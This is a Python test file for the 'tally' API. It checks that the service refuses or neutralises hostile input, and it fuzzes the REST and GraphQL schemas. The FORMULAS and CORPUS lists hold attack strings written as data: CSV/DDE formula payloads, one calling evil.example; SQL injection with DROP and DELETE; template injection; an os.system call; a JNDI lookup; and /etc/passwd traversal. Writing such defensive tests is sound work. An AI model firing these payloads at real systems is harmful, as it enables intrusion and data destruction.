"""Hostile input: bodies that are not requests, CSV cells that would run as spreadsheet formulas,
an injection corpus on every filter and name entry point (the raw tables verified unchanged
afterwards), and property-based fuzzing of the REST API from its OpenAPI schema and of the
GraphQL schema (zero 5xx, zero responses outside the documented schema)."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import json
import shutil
from urllib.parse import quote

import duckdb
import httpx
import pytest
import schemathesis
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from hypothesis.errors import Unsatisfiable
from schemathesis.checks import positive_data_acceptance
from schemathesis.generation import GenerationMode

BAD_BODIES = [b"5", b'"x"', b"null", b"true", b"[]", b"\xff\xfe\xfd", b"[" * 5000 + b"]" * 5000,
              b'{"a":' * 3000 + b"1" + b"}" * 3000, b"{", b"\x00"]  # fmt: skip


@pytest.mark.parametrize("body", BAD_BODIES, ids=range(len(BAD_BODIES)))
@pytest.mark.parametrize("path", ["/api/v1/query", "/graphql", "/api/v1/compile"])
def test_bodies_that_are_not_requests_are_400(client, secured, path, body):
    r = client.request("POST", path, secured.keys["sql-reader"], content=body,
                       headers={"content-type": "application/json"})
    assert r.status_code == 400, (r.status_code, r.text[:200])
    assert r.json()["error"]["code"] == "invalid_request"


FORMULAS = ["=HYPERLINK(\"http://evil.example\",\"click\")", "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\tTAB", "=1+1"]  # fmt: skip


@pytest.fixture(scope="module")
def formula_client(secured, warehouse, tmp_path_factory):
    """The demo warehouse with product names a spreadsheet would run as formulas."""
    from tally.server import create_app
    from tally.service import TallyService
    from tally.settings import Settings
    from tally.warehouse.duckdb import DuckDBWarehouse

    copy = tmp_path_factory.mktemp("formulas") / "warehouse.duckdb"
    shutil.copy(warehouse.duckdb_path, copy)
    con = duckdb.connect(str(copy))
    for i, name in enumerate(FORMULAS, start=1):
        con.execute("update analytics_marts.dim_products set product_name = ? where product_id = ?",
                    [name, i])
    con.close()
    settings = Settings(project_dir=secured.project_dir, manifest_path=warehouse.manifest_path,
                        jwt_secret="x" * 40)
    service = TallyService(settings, warehouse=DuckDBWarehouse(copy))
    app = create_app(settings, service=service)

    def get(method: str, url: str, **kw) -> httpx.Response:
        async def send() -> httpx.Response:
            transport = httpx.ASGITransport(app=app)
            async with httpx.AsyncClient(transport=transport, base_url="http://t") as c:
                return await c.request(method, url, headers={
                    "accept": "text/csv", "authorization": f"Bearer {secured.keys['reader']}"},
                    **kw)
        return asyncio.run(send())

    return get


def test_csv_cells_that_would_run_as_formulas_are_neutralised(formula_client):
    r = formula_client("POST", "/api/v1/query", json={
        "metrics": ["item_revenue"], "group_by": ["product__product_name"]})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    names = [row[0] for row in csv.reader(io.StringIO(r.text))][1:]
    for formula in FORMULAS:
        assert formula not in names and f"'{formula}" in names, formula
    values = formula_client("GET", "/api/v1/dimension-values?dimension=product__product_name")
    cells = [row[0] for row in csv.reader(io.StringIO(values.text))][1:]
    assert "'=HYPERLINK(\"http://evil.example\",\"click\")" in cells
    assert not any(c[:1] in "=+-@\t" for c in cells)


# The injection corpus: each string goes into every name and filter entry point.
CORPUS = [
    "' OR '1'='1", "1; DROP TABLE raw.orders;--", "revenue; DROP TABLE raw.orders",
    "') UNION SELECT * FROM raw.customers --", "revenue/**/UNION/**/SELECT/**/1",
    "x' /* comment */ OR 1=1 --", "{{ config }}", "{{ ''.__class__.__mro__ }}",
    "{% for x in range(10) %}x{% endfor %}", "{{ Dimension('x').__init__ }}",
    "ｒｅｖｅｎｕｅ", "revenue\u200b", "rev\u0435nue", "revenue\x00", "\x00",
    "a" * 100_000, "__import__('os').system('id')", "${jndi:ldap://evil/a}",
    "../../etc/passwd", "revenue\n--", "customer__country'; DELETE FROM raw.orders; --",
]  # fmt: skip
DIM = "{{ Dimension('customer__country') }}"


def _entry_points(evil: str) -> list[tuple[str, str, dict]]:
    """(method, path, json body or query params) for each place a caller's text goes."""
    filter_values = [f"{DIM} = {evil}", f"{DIM} = '{evil}' OR 1=1", f"{evil}",
                     f"{{{{ Dimension('{evil}') }}}} = 'x'", f"{DIM} IN ({evil})"]  # fmt: skip
    points = [
        ("POST", "/api/v1/query", {"metrics": [evil]}),
        ("POST", "/api/v1/query", {"metrics": ["revenue"], "group_by": [evil]}),
        ("POST", "/api/v1/query", {"metrics": ["revenue"], "order_by": [evil]}),
        ("POST", "/api/v1/query", {"saved_query": evil}),
        ("POST", "/api/v1/query", {"metrics": ["revenue"], "limit": evil}),
        ("POST", "/api/v1/query", {"metrics": ["revenue"], "start": evil}),
        ("POST", "/api/v1/query", {"metrics": ["revenue"],
                                   "where": [{"dimension": evil, "op": "=", "value": "x"}]}),
        ("POST", "/api/v1/query", {"metrics": ["revenue"],
                                   "where": [{"dimension": "customer__country", "op": evil,
                                              "value": "x"}]}),
        ("POST", "/api/v1/compile", {"metrics": ["revenue"], "group_by": [evil]}),
        # (URLs carry at most a few kilobytes: a longer one is refused before tally sees it)
        ("GET", "/api/v1/dimension-values", {"dimension": evil[:8000]}),
        ("GET", "/api/v1/dimension-values", {"dimension": "customer__country",
                                             "metrics": evil[:8000]}),
        ("GET", "/api/v1/dimensions", {"metrics": evil[:8000]}),
        ("GET", f"/api/v1/metrics/{quote(evil[:2000], safe='')}", {}),
        ("POST", f"/api/v1/saved-queries/{quote(evil[:2000], safe='')}/query", {}),
    ]
    points += [("POST", "/api/v1/query", {"metrics": ["revenue"], "where": [v]})
               for v in filter_values]  # fmt: skip
    points += [("GRAPHQL", q, {}) for q in (
        f'{{ query(metrics: [{json.dumps(evil)}]) {{ rowCount }} }}',
        f'{{ query(metrics: ["revenue"], where: [{json.dumps(filter_values[1])}]) '
        '{ rowCount } }',
        f'{{ query(metrics: ["revenue"], groupBy: [{json.dumps(evil)}]) {{ rowCount }} }}',
        f'{{ metric(name: {json.dumps(evil)}) {{ name }} }}',
    )]  # fmt: skip
    return points


def _raw_digest(raw) -> str:
    digest = hashlib.sha256()
    for table in ("customers", "products", "orders", "order_items"):
        rows = raw.execute(f"select * from raw.{table} order by 1").fetchall()
        digest.update(repr((table, len(rows), rows[:50], rows[-50:])).encode())
    return digest.hexdigest()


def test_the_injection_corpus_is_refused_everywhere_and_changes_nothing(client, secured, raw):
    before = _raw_digest(raw)
    token = secured.keys["sql-reader"]
    outcomes: dict[int, int] = {}
    for evil in CORPUS:
        for method, path, body in _entry_points(evil):
            if method == "GRAPHQL":
                r = client.graphql(path, token)
                status = r.status_code
                if status == 200:
                    errors = r.json().get("errors") or []
                    assert errors, (evil, path, r.text[:300])
                    status = errors[0]["extensions"]["status"]
            elif method == "GET":
                r = client.request("GET", path, token, params=body)
                status = r.status_code
            else:
                r = client.request(method, path, token, json=body)
                status = r.status_code
            outcomes[status] = outcomes.get(status, 0) + 1
            assert 400 <= status < 500, (evil[:80], method, path[:120], body, r.text[:300])
            assert "Traceback" not in r.text
    assert _raw_digest(raw) == before
    assert sum(outcomes.values()) == len(CORPUS) * len(_entry_points("x"))


def test_values_in_structured_filters_are_data_never_sql(client, secured, raw):
    """A structured filter's value is quoted by the parser: an injection string there is a
    country nobody has (no rows), never SQL; one carrying template markers ({{ ... }}, which
    MetricFlow would render) is refused."""
    before = _raw_digest(raw)
    for evil in CORPUS[:10]:
        r = client.query({"metrics": ["order_count"], "where": [
            {"dimension": "customer__country", "op": "in", "values": [evil]}]},
            secured.keys["reader"])
        if "{{" in evil or "{%" in evil:
            assert r.status_code == 400 and r.json()["error"]["code"] == "invalid_filter", evil
            continue
        assert r.status_code == 200, (evil, r.text[:200])
        assert r.json()["data"] in ([], [{"order_count": None}], [{"order_count": 0}]), evil
    assert _raw_digest(raw) == before


@pytest.fixture(scope="module")
def open_app(secured, warehouse):
    """The API without authentication (loopback): the fuzzers reach every route's logic."""
    from tally.server import create_app
    from tally.service import TallyService
    from tally.settings import Settings
    from tally.warehouse.duckdb import DuckDBWarehouse

    settings = Settings(manifest_path=warehouse.manifest_path,
                        project_dir=secured.project_dir.parent / "open")
    (settings.project_dir).mkdir(exist_ok=True)
    for name in ("dbt_project.yml", "profiles.yml"):
        shutil.copy(secured.project_dir / name, settings.project_dir / name)
    return create_app(settings, service=TallyService(
        settings, warehouse=DuckDBWarehouse(warehouse.duckdb_path)))


FUZZ_EXAMPLES = 150


def test_rest_fuzzing_from_the_openapi_schema(open_app, record_property):
    schema = schemathesis.openapi.from_asgi("/openapi.json", open_app)
    total, statuses = 0, {}
    for mode in (GenerationMode.POSITIVE, GenerationMode.NEGATIVE):
        for result in schema.get_all_operations():
            operation = result.ok()

            @given(case=operation.as_strategy(generation_mode=mode))
            @settings(max_examples=FUZZ_EXAMPLES, deadline=None, database=None,
                      suppress_health_check=list(HealthCheck))  # fmt: skip
            def run(case) -> None:
                nonlocal total
                total += 1
                response = case.call()
                statuses[response.status_code] = statuses.get(response.status_code, 0) + 1
                # No 5xx, statuses and bodies as documented. (A schema-valid request naming a
                # metric that does not exist is rightly a 400: that check is left out.)
                case.validate_response(response, excluded_checks=[positive_data_acceptance])

            try:
                run()
            except Unsatisfiable:
                # An operation without parameters (GET /health/live) has no invalid input.
                assert mode is GenerationMode.NEGATIVE
    record_property("rest_fuzz_cases", total)
    print(f"REST fuzz: {total} cases, statuses {dict(sorted(statuses.items()))}")
    assert total > 1000 and not any(s >= 500 for s in statuses)


def test_graphql_fuzzing(open_app, record_property):
    schema = schemathesis.graphql.from_asgi("/graphql", open_app)
    total, statuses = 0, {}
    for result in schema.get_all_operations():
        operation = result.ok()

        @given(case=operation.as_strategy())
        @settings(max_examples=FUZZ_EXAMPLES, deadline=None, database=None,
                  suppress_health_check=list(HealthCheck))  # fmt: skip
        def run(case) -> None:
            nonlocal total
            total += 1
            response = case.call()
            statuses[response.status_code] = statuses.get(response.status_code, 0) + 1
            assert response.status_code < 500, response.text[:300]
            body = response.json()
            assert set(body) <= {"data", "errors", "error"}, body
            for error in body.get("errors") or []:
                assert error["extensions"]["status"] < 500, error

        run()
    record_property("graphql_fuzz_cases", total)
    print(f"GraphQL fuzz: {total} cases, statuses {statuses}")
    assert total >= 300


@given(body=st.one_of(st.binary(max_size=300), st.recursive(
    st.none() | st.booleans() | st.floats() | st.text(max_size=20),
    lambda children: st.lists(children, max_size=4)
    | st.dictionaries(st.sampled_from(["query", "variables", "operationName", "x"]), children,
                      max_size=4), max_leaves=30).map(lambda v: json.dumps(v).encode())))
@settings(max_examples=300, deadline=None, database=None,
          suppress_health_check=list(HealthCheck))  # fmt: skip
def test_graphql_raw_bodies_never_5xx(open_app, body):
    async def send() -> httpx.Response:
        transport = httpx.ASGITransport(app=open_app)
        async with httpx.AsyncClient(transport=transport, base_url="http://t") as c:
            return await c.post("/graphql", content=body,
                                headers={"content-type": "application/json"})

    r = asyncio.run(send())
    assert r.status_code < 500, (body[:100], r.text[:200])
